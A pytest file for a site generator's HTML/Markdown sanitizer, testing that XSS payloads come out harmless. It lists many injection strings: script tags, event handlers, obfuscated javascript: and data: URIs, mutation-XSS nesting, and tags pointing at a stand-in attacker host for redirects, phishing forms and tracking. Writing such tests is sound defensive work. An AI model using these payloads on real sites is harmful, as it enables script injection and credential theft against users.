"""Raw HTML and Markdown written to attack a page come out harmless, whatever the spelling."""

from __future__ import annotations

import re
import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest

from hubgen.markup.markdown import Converter
from hubgen.markup.sanitize import Embed, Sanitizer
from tests.conftest import BASE_FILES, build_site, write_files

md = Converter()
VIDEO = "www.youtube-nocookie.com"


def html(text: str, hosts: tuple[str, ...] = ()) -> str:
    return md.convert(text, "/", embed_hosts=hosts).html


def harmless(out: str) -> None:
    """No element or attribute that runs code, loads another page or changes navigation."""
    lowered = out.lower()
    for bad in ("<script", "<svg", "<math", "<style", "<meta", "<base", "<form", "<object",
                "<embed", "<iframe", "<button", "<input", "srcdoc", "formaction", "style=",
                "xlink:", "javascript", "vbscript", "data:", "expression("):  # fmt: skip
        assert bad not in lowered, (bad, out)
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", lowered), out  # no event handler on a tag


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example.org/x.js></SCRIPT>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<div><scr<script>ipt>alert(1)</script></div>",
]
HANDLERS = [
    '<img src="/x.png" alt="a" onerror="alert(1)">',
    '<p OnClick="alert(1)">x</p>',
    '<a href="/x/" oNmOuSeOvEr=alert(1)>x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<img src=/x.png alt=a/onerror=alert(1)>",
    '<body onload="alert(1)">x</body>',
]
SCHEMES = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#9;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    '<img src="javascript:alert(1)" alt="x">',
    '<img srcset="javascript:alert(1) 1x" alt="x">',
    '<img srcset="/ok.png 1x, data:image/png;base64,AA 2x" alt="x">',
    '<picture><source srcset="javascript:alert(1)"><img src="/x.png" alt="x"></picture>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "![x][evil]\n\n[evil]: data:image/svg+xml,x",
    '[x][evil]\n\n[evil]: javascript:alert(1) "title"',
]
ELEMENTS = [
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example.org/">',
    '<base href="https://evil.example.org/">',
    '<form action="https://evil.example.org/"><input name="password"></form>',
    '<object data="https://evil.example.org/x.swf"></object>',
    '<embed src="https://evil.example.org/x.swf">',
    '<link rel="stylesheet" href="https://evil.example.org/x.css">',
    '<p style="background: url(javascript:alert(1))">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="background-image: url(https://tracker.example.org/pixel.gif)">x</p>',
    "<style>body { background: url(https://tracker.example.org/p.gif) }</style>",
]


@pytest.mark.parametrize("text", SCRIPTS + HANDLERS + SCHEMES + ELEMENTS)
def test_hostile_html_and_markdown_come_out_harmless(text: str) -> None:
    harmless(html(text))
    harmless(html(text, (VIDEO,)))  # allowing frames from one host allows nothing else


def test_text_around_what_was_removed_stays() -> None:
    out = html('Before <a href="javascript:alert(1)">the link</a> after.')
    assert out == "<p>Before <a>the link</a> after.</p>"


def test_ordinary_links_and_images_are_kept() -> None:
    out = html("[a](https://example.org/) [b](mailto:team@example.org) [c](tel:+16085550100)")
    assert 'href="https://example.org/"' in out and 'href="mailto:team@example.org"' in out
    assert 'href="tel:+16085550100"' in out


def test_template_syntax_in_a_body_is_text() -> None:
    out = html("{{ 7*7 }} {% include 'base.html' %} {# note #} <p>{{ config }}</p>")
    assert "{{ 7*7 }}" in out and "{% include 'base.html' %}" in out and "49" not in out


def test_frames_are_removed_without_iframe_hosts() -> None:
    result = md.convert(f'<iframe src="https://{VIDEO}/embed/x" title="T">Old browsers</iframe>')
    assert "<iframe" not in result.html
    assert result.embeds == (Embed(f"https://{VIDEO}/embed/x", "T"),)


def test_a_frame_from_an_allowed_host_gets_fixed_attributes() -> None:
    text = (f'<iframe src="https://{VIDEO}/embed/x" title="Training" width="560" '
            'sandbox="allow-top-navigation" allow="camera" srcdoc="x" onload="alert(1)" '
            'style="position:fixed" allowfullscreen><script>alert(1)</script></iframe>'
            )  # fmt: skip
    out = html(text, (VIDEO,))
    tag = re.search(r"<iframe[^>]*>", out)
    assert tag is not None and out.count("<iframe") == 1
    attributes = dict(re.findall(r'(\w[\w-]*)="([^"]*)"', tag.group(0)))
    assert attributes == {
        "src": f"https://{VIDEO}/embed/x",
        "title": "Training",
        "width": "560",
        "allowfullscreen": "",
        "sandbox": "allow-scripts allow-same-origin allow-popups allow-forms allow-presentation",
        "loading": "lazy",
        "referrerpolicy": "strict-origin-when-cross-origin",
    }
    assert "<script" not in out and "alert" not in out


@pytest.mark.parametrize(
    "src",
    [
        "https://evil.example.org/embed/x",
        f"http://{VIDEO}/embed/x",
        f"//{VIDEO}/embed/x",
        f"https://{VIDEO}.evil.example.org/x",
        f"https://user:pass@{VIDEO}/x",
        f"javascript:alert(1)//{VIDEO}",
        "/embed/x",
        "",
    ],
)
def test_frames_from_other_places_are_removed(src: str) -> None:
    sanitizer = Sanitizer((VIDEO,))
    out = sanitizer.clean(f'<p>a</p><iframe src="{src}" title="t">fallback</iframe><p>b</p>')
    assert out.html == "<p>a</p><p>b</p>"
    assert out.embeds == (Embed(src, "t"),)


def test_hosts_match_whatever_their_case() -> None:
    out = html(f'<iframe src="HTTPS://{VIDEO.upper()}/embed/x" title="t"></iframe>', (VIDEO,))
    assert "<iframe" in out


FRAMED = """\
    ---
    title: Training video
    ---
    Watch this first.

    <iframe src="https://{host}/embed/abc" title="{title}"></iframe>
    """


def site_yaml(hosts: str = "") -> str:
    base = textwrap.dedent(BASE_FILES["content/site.yaml"])
    return base + (f"iframe_hosts: [{hosts}]\n" if hosts else "")


def test_a_frame_from_a_host_not_allowed_is_an_error_at_its_line(
    tmp_site: Callable[..., Path],
) -> None:
    root = tmp_site({"content/testland/pages/video.md": FRAMED.format(host=VIDEO, title="T")})
    result = build_site(root)
    assert result.exit_code == 1
    assert (
        f"content/testland/pages/video.md:6: error: an <iframe> from {VIDEO}, which is not in "
        "iframe_hosts\n    hint: add the host to iframe_hosts in content/site.yaml if that site "
        "may be embedded (now: none), or link to the page instead"
    ) in result.stderr


def test_changing_iframe_hosts_renders_the_page_again(tmp_site: Callable[..., Path]) -> None:
    root = tmp_site({"content/testland/pages/video.md": FRAMED.format(host=VIDEO, title="T")})
    assert build_site(root).exit_code == 1  # the cache keeps the body made without frames
    write_files(root, {"content/site.yaml": site_yaml(VIDEO)})
    assert build_site(root).exit_code == 0
    built = (root / "public/testland/video/index.html").read_text()
    assert f'<iframe src="https://{VIDEO}/embed/abc"' in built
    write_files(root, {"content/site.yaml": site_yaml("maps.example.org")})
    result = build_site(root)
    assert "video.md:6: error: an <iframe> from www.youtube-nocookie.com" in result.stderr
    assert "(now: maps.example.org)" in result.stderr


def test_a_frame_needs_a_title(tmp_site: Callable[..., Path]) -> None:
    root = tmp_site({"content/testland/pages/video.md": FRAMED.format(host=VIDEO, title=" "),
                     "content/site.yaml": site_yaml(VIDEO)})  # fmt: skip
    result = build_site(root)
    assert result.exit_code == 1
    assert "video.md:6: error: an <iframe> has no title" in result.stderr


def test_iframe_hosts_are_host_names(tmp_site: Callable[..., Path]) -> None:
    root = tmp_site({"content/site.yaml": site_yaml(f"https://{VIDEO}/")})
    result = build_site(root)
    assert f"'https://{VIDEO}/' is not a host name" in result.stderr
    assert "no https://" in result.stderr


# Task lists' checkboxes, and the block tags GitHub's Markdown uses


def inert(out: str) -> None:
    """Harmless, and every <input> a disabled checkbox with nothing but its state."""
    inputs = re.findall(r"<input\b[^>]*>", out, re.IGNORECASE)
    for tag in inputs:
        attributes = dict(re.findall(r'\s([\w-]+)="([^"]*)"', tag))
        assert attributes.get("type") == "checkbox" and "disabled" in attributes, tag
        assert set(attributes) <= {"type", "disabled", "checked", "id", "title", "lang", "dir"}
    harmless(re.sub(r"<input\b[^>]*>", "", out))


INPUTS = [
    '<input type="text" name="password" placeholder="Your password">',
    "<input>",
    '<input type="password" autofocus>',
    '<input type="image" src="https://evil.example.org/pixel.png" alt="x">',
    '<input type="submit" formaction="https://evil.example.org/" value="Go">',
    '<input type="checkbox" onclick="alert(1)" formaction="javascript:alert(1)" autofocus>',
    '<input type="checkbox" name="x" form="f" value="v" style="position:fixed" src="/x.png">',
    '<input type="CheckBox" onfocus="alert(1)" autofocus>',
    '<input type="checkbox" type="text" onchange="alert(1)">',
    '<input type="hidden" name="csrf" value="x">',
    '<input type="file" accept="*">',
    '<input type="button" onclick="alert(1)" value="Click">',
    '<input list="l" pattern="x" formmethod="post" formtarget="_top">',
    '<form action="https://evil.example.org/"><input type="checkbox" name="x"></form>',
    '<label for="x" onclick="alert(1)" style="color:red">a <input type="radio" id="x"></label>',
    '<div style="position:fixed;top:0" onmouseover="alert(1)" class="skip-link">x</div>',
    '<aside onclick="alert(1)" style="display:none">x</aside>',
    '<div class="footnote" onclick="alert(1)"><a class="footnote-ref" href="javascript:a">x</a>',
    "- [ ] <input type=text> in a task",
]


@pytest.mark.parametrize("text", INPUTS)
def test_inputs_come_out_as_disabled_checkboxes_or_not_at_all(text: str) -> None:
    inert(html(text))
    inert(html(text, (VIDEO,)))


def test_a_checkbox_is_kept_disabled_and_other_inputs_go() -> None:
    out = html('<p>A <input type="checkbox" checked onclick="x()"> B <input type="text"> C</p>')
    assert out == '<p>A <input type="checkbox" checked="" disabled=""> B  C</p>'
    assert html('<p><input type="CHECKBOX"></p>') == '<p><input type="checkbox" disabled=""></p>'


def test_div_aside_and_label_keep_no_attributes_but_the_common_ones() -> None:
    out = html(
        '<div style="color:red" class="card" align="center" title="T">a</div>\n\n'
        '<aside class="notice" data-x="1" lang="es">b</aside>\n\n'
        '<p><label for="x" class="big">c</label></p>'
    )
    assert out == '<div title="T">a</div>\n<aside lang="es">b</aside>\n<p><label>c</label></p>'


def test_only_the_footnotes_classes_are_kept() -> None:
    out = html('<div class="footnote evil"><a class="footnote-ref button" href="#fn-1">1</a></div>')
    assert out == '<div class="footnote"><a class="footnote-ref" href="#fn-1">1</a></div>'


def test_a_list_item_keeps_only_the_task_class() -> None:
    assert html('<ul><li class="task big">a</li><li class="x">b</li></ul>') == (
        '<ul><li class="task">a</li><li>b</li></ul>'
    )
